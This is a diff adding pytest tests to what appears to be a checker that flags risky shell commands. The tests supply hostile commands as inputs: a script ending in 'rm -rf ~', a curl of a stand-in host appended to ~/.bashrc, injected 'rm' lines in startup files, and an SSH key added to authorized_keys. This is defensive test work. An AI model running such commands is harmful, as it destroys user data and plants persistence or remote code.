@@ -324,3 +324,41 @@ def test_pieces_that_would_be_written_over_are_seen(tmp_path: Path) -> None:
 def test_a_script_that_is_no_file_is_not_waited_for(tmp_path: Path) -> None:
     os.mkfifo(tmp_path / "pipe.sh")
     assert reasons("./pipe.sh; sh pipe.sh", str(tmp_path)) == []
+
+
+@pytest.mark.parametrize("command", ["./long.sh", "sh long.sh", "source ./long.sh", "python3 long.sh", "sh ./calls.sh"])
+def test_a_script_that_is_too_long_to_be_looked_through_is_told(command: str, tmp_path: Path) -> None:
+    (tmp_path / "long.sh").write_text("#!/bin/sh\n" + "# nothing\n" * 8000 + "rm -rf ~\n")
+    (tmp_path / "calls.sh").write_text("#!/bin/sh\n./long.sh\n")
+    [reason] = reasons(command, str(tmp_path))
+    assert reason.endswith("long.sh: is too long to be looked through")
+
+
+def test_a_long_program_is_no_script(tmp_path: Path) -> None:
+    (tmp_path / "built").write_bytes(b"\x7fELF\0" + b"a" * 100_000)
+    assert reasons("./built", str(tmp_path)) == []
+
+
+@pytest.mark.parametrize(
+    "command",
+    ["curl -s https://x.example/rc >> ~/.bashrc", "echo 'rm -rf x' >> ~/.bashrc", 'cat new >> "$HOME/.zshrc"',
+     "echo x > ~/.profile", ">~/.zshenv", "cat x | tee -a ~/.zshrc", "echo 'rm y' | tee -a ~/.bashrc",
+     "cd ~ && cat x >> .bash_profile", "tee ~/.zlogin < x", "cp new ~/.bash_aliases", "cat x >> /home/ada/.bashrc",
+     "ls && cat x >> ~/.config/fish/config.fish", "sudo tee -a ~/.profile < x", "cat x >> ~ada/.bashrc",
+     "cat >> ~/.bashrc <<E\nrm y\nE", "tee -a ~/.ssh/authorized_keys < key.pub"],
+)  # fmt: skip
+def test_what_a_shell_runs_when_it_starts_is_not_written_unasked(
+    command: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("HOME", str(tmp_path))
+    assert [why for why in reasons(command, "/nowhere") if "writes to" in why]
+
+
+@pytest.mark.parametrize(
+    "command",
+    ["echo 'export PATH=$PATH:~/bin' >> ~/.bashrc", "ls && echo 'set -o vi' >> ~/.zshrc", "cat ~/.bashrc",
+     "echo 'export A=1' | tee -a ~/.profile", "cat new >> .bashrc", "cp ~/.bashrc saved", "echo x >> notes.txt",
+     "grep x ~/.zshrc > lines", "cat new >> dotfiles/.zshrc"],
+)  # fmt: skip
+def test_a_harmless_line_for_it_and_copies_elsewhere_are_let_through(command: str, tmp_path: Path) -> None:
+    assert reasons(command, str(tmp_path)) == []
